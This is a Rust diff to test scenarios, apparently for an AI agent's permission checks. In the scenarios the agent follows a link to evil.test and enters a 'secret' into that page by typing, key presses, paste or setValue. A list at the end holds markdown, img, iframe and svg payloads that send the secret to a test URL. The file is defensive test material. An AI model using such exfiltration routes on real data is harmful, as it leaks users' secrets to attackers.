@@ -137,25 +137,45 @@ pub(super) fn all() -> Vec<Script> {
             .does("webElements", json!({}))
             .does("webClick", at("Script link"))
             .does("elementsJson", look("Chromium"))
-            .answered(User::Session(1), &["evil.test: GET /js"])
     };
-    all.extend([
+    let field = || json!({ "ref": "@ref Open field" });
+    let one_by_one = || "secret".chars().map(|c| ("press", json!({ "key": c.to_string() }))).collect();
+    let by_name = || json!({ "app": "Chromium", "name": "Open field", "value": "secret" });
+    for script in [
         abroad("keys into the page that a link led to")
-            .does("focusElement", json!({ "ref": "@ref Open field" }))
+            .does("focusElement", field())
             .does("type", typed("secret"))
             .quick(),
         abroad("keys one by one into the page that a link led to")
-            .does("focusElement", json!({ "ref": "@ref Open field" }))
-            .at_once("secret".chars().map(|c| ("press", json!({ "key": c.to_string() }))).collect()),
+            .does("focusElement", field())
+            .at_once(one_by_one()),
         abroad("a paste into the page that a link led to")
             .does("writeClipboard", typed("secret"))
-            .does("focusElement", json!({ "ref": "@ref Open field" }))
+            .does("focusElement", field())
             .does("hotkey", keys(&["ctrl", "v"])),
         abroad("a value set in the page that a link led to")
             .does("setValue", json!({ "ref": "@ref Open field", "value": "secret" })),
-        abroad("a value set by name in the page that a link led to")
-            .does("setValue", json!({ "app": "Chromium", "name": "Open field", "value": "secret" })),
-    ]);
+        abroad("a value set by name in the page that a link led to").does("setValue", by_name()),
+    ] {
+        // In auto the link is followed unasked; elsewhere its user says yes to that alone.
+        let unasked = Script { name: format!("{}, unasked", script.name), ..script.clone() };
+        let accepts: &[&'static str] = &["evil.test: GET /js"];
+        all.push(unasked.answered(User::No, accepts).in_ways(&[Way::Plan, Way::Auto]));
+        all.push(script.answered(User::Session(1), accepts).in_ways(&ASKS));
+    }
+    // The tools were allowed in the browser before, at home.
+    all.push(
+        of("keys that were allowed before, into the page that a link led to")
+            .does("elementsJson", look("Chromium"))
+            .does("focusElement", field())
+            .does("type", typed("frogs"))
+            .does("webClick", at("Script link"))
+            .does("elementsJson", look("Chromium"))
+            .does("focusElement", field())
+            .does("type", typed("secret"))
+            .answered(User::Session(2), &["evil.test: GET /js"])
+            .in_ways(&ASKS),
+    );
     let said = [
         "![a](http://127.0.0.1:$PORT/markdown?d=secret) <img src=http://127.0.0.1:$PORT/img>",
         "<iframe src=http://127.0.0.1:$PORT/iframe></iframe><svg><image href=http://127.0.0.1:$PORT/svg /></svg>",
